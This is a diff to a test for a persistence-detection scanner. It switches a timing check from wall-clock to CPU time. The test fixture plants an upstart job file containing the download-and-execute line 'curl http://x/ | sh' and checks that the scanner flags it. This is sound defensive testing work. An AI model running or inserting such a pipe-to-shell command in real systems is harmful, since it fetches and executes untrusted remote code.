@@ -502,11 +502,13 @@ def test_garbage_and_unclosed_quotes_in_job_files_are_read_fast(rhel6, rules, de
     plant(rhel6, "/etc/init/noend.conf", "script\n" + "/bin/true\n" * 1000 + "curl http://x/ | sh\n")
     os.mkfifo(rhel6 / "etc/init/fifo.conf")
 
-    started = time.monotonic()
+    # The work is measured in this process's CPU time, which a busy machine does not inflate: a
+    # quadratic reading of the 16 MB file takes minutes of it, the linear one a few seconds.
+    started = time.process_time()
     with deadline(60):
         result = persistence.scan(str(rhel6), rules)
 
-    assert time.monotonic() - started < 20
+    assert time.process_time() - started < 20
     assert ("download-execute", "upstart_job", "/etc/init/noend.conf", 1002) in found(result)
     assert [n["path"] for n in result.notes] == ["/etc/init/fifo.conf"]
     json.dumps(result.finding_dicts())
